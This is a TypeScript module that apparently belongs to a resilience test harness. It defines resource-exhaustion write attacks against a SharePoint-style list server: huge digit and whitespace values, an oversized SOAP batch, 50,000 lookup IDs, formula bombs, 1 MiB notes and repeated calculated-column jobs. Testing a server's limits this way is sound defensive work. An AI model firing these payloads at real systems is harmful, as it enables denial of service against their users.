import { type Attack, asking, type Battlefield } from '../attack.ts'
import { jsonHeaders, soapBody, xmlHeaders } from '../client.ts'
import { big, formulas, notes } from '../seed.ts'

const anyItem = ({ random, items }: Battlefield): string => `${big}/items(${1 + Math.floor(random() * items)})`
const change = (makeBody: (field: Battlefield) => object, path: (field: Battlefield) => string = anyItem) =>
  asking((field) => ({
    method: 'POST',
    path: path(field),
    user: 'contributor',
    headers: { ...jsonHeaders, 'X-HTTP-Method': 'MERGE', 'If-Match': '*' },
    body: JSON.stringify(makeBody(field)),
  }))

const digits = `${'1'.repeat(500_000)}x`
const blanks = `1/31/2026 2:05${' '.repeat(500_000)}x`
const methods = Array.from(
  { length: 500 },
  (_, n) =>
    `<Method ID="${n + 1}" Cmd="Update"><Field Name="ID">${n + 1}</Field><Field Name="Amount">${'1'.repeat(5000)}x</Field></Method>`,
).join('')

/** A designer's column of the big list, which is computed for every item, gets an index, and goes again. */
async function columnJob({ ask, n }: Battlefield): Promise<string> {
  const name = `Job${n}`
  const formula = n % 2 === 0 ? '=REPT(Title,3)&amp;UPPER(Remark)' : '=Amount*2'
  const SchemaXml = `<Field Type="Calculated" DisplayName="${name}" Name="${name}" ResultType="${n % 2 === 0 ? 'Text' : 'Number'}"><Formula>${formula}</Formula><FieldRefs><FieldRef Name="Title"/><FieldRef Name="Remark"/><FieldRef Name="Amount"/></FieldRefs></Field>`
  const send = (path: string, body: object | undefined, headers: Readonly<Record<string, string>> = {}) =>
    ask({
      method: 'POST',
      path: `${big}/fields${path}`,
      user: 'designer',
      headers: { ...jsonHeaders, ...headers },
      ...(body && { body: JSON.stringify(body) }),
    })
  const added = await send('/createfieldasxml', { parameters: { SchemaXml } })
  if (added.status >= 300) return `added ${added.status}`
  const column = `/getbyinternalnameortitle('${name}')`
  await send(`/getbyinternalnameortitle('Due')`, { Indexed: n % 2 === 0 }, { 'X-HTTP-Method': 'MERGE', 'If-Match': '*' })
  const { status } = await send(column, undefined, { 'X-HTTP-Method': 'DELETE', 'If-Match': '*' })
  return String(status)
}

/** Values and columns that cost more than what they hold. */
export const writeAttacks: readonly Attack[] = [
  { name: 'digits-in-a-number', restMs: 1000, strike: change(() => ({ Amount: digits })) },
  { name: 'blanks-in-a-date', restMs: 1000, strike: change(() => ({ Due: blanks })) },
  {
    name: 'blanks-in-form-values',
    restMs: 1000,
    strike: asking((field) => ({
      method: 'POST',
      path: `${anyItem(field)}/validateupdatelistitem`,
      user: 'contributor',
      headers: jsonHeaders,
      body: JSON.stringify({
        formValues: ['Due', 'Amount', 'Keeper', 'Ref', 'Refs'].map((FieldName) => ({ FieldName, FieldValue: blanks })),
      }),
    })),
  },
  {
    name: 'soap-batch-of-digits',
    restMs: 3000,
    strike: asking(() => ({
      method: 'POST',
      path: '/_vti_bin/lists.asmx',
      user: 'contributor',
      headers: xmlHeaders,
      body: soapBody('UpdateListItems', `<listName>Big</listName><updates><Batch OnError="Continue">${methods}</Batch></updates>`),
    })),
  },
  {
    name: 'lookups-of-thousands',
    restMs: 2000,
    strike: change(() => ({ RefsId: Array.from({ length: 50_000 }, (_, n) => n + 1) })),
  },
  {
    name: 'formula-bombs',
    restMs: 1000,
    strike: change(
      ({ n }) => ({ Source: 'a'.repeat(30_000 + (n % 10)) }),
      () => `${formulas}/items(1)`,
    ),
  },
  {
    name: 'notes-of-1-mib',
    restMs: 2000,
    strike: change(
      ({ n }) => ({ Body: `${n} ${'word '.repeat(200_000)}` }),
      ({ n }) => `${notes}/items(${1 + (n % 8)})`,
    ),
  },
  { name: 'column-jobs', restMs: 8000, strike: columnJob },
]
